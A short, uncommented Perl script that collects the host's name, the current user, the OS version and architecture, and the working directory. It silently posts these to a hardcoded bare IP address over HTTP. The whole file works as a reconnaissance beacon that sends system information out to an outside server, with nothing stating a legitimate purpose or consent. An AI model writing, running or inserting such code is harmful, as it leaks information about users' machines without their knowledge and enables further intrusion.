use strict;
use warnings;
use Sys::Hostname;
use POSIX qw(uname);
use Cwd;
use HTTP::Tiny;

my @u = uname();
my %rec = (
    host => hostname(),
    user => scalar getpwuid($<),
    sys  => "$u[0] $u[2] $u[4]",
    cwd  => getcwd(),
);

HTTP::Tiny->new(timeout => 5)->post_form('http://203.0.113.72/pl', \%rec);
